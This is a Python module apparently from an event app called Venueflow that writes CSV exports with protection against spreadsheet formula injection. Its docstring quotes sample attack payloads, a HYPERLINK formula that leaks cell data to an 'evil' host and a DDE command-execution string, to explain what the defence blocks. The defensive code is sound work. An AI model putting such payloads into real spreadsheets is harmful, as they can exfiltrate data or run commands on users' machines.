"""The one CSV writer for every file Venueflow hands out, safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1,"click")`,
`@SUM(...)`): a gate id, a participant's name or a free-SQL value could run one on the
organiser's machine (issue 10). OWASP's rule: prefix such a cell with `'`, which the spreadsheet
shows as text and does not display. Only strings are changed: numbers (int, float, Decimal)
are written as they are, and so is a string that is exactly a plain number (`-3`, `+1.5`,
`-2e3`), which a spreadsheet reads as that number and never as a formula. Everything else —
`-1+2`, `+cmd|' /C calc'!A0`, `-` alone — is prefixed.

Used by the attendance report's CSV, the QR export's `index.csv` and the free-SQL download.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

#: First characters a spreadsheet takes as the start of a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: a string that a spreadsheet would run as a formula
    gets a leading `'`; other values (numbers, None, plain-number strings) are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` with every cell passed through `safe_cell` (CRLF line ends, as
    spreadsheets expect)."""

    def __init__(self, out: io.TextIOBase | Any):
        self._w = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: io.TextIOBase | Any) -> SafeWriter:
    """The CSV writer every exported file uses (see the module docstring)."""
    return SafeWriter(out)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows (header first) as CSV text, every cell made safe."""
    buf = io.StringIO()
    writer(buf).writerows(rows)
    return buf.getvalue()
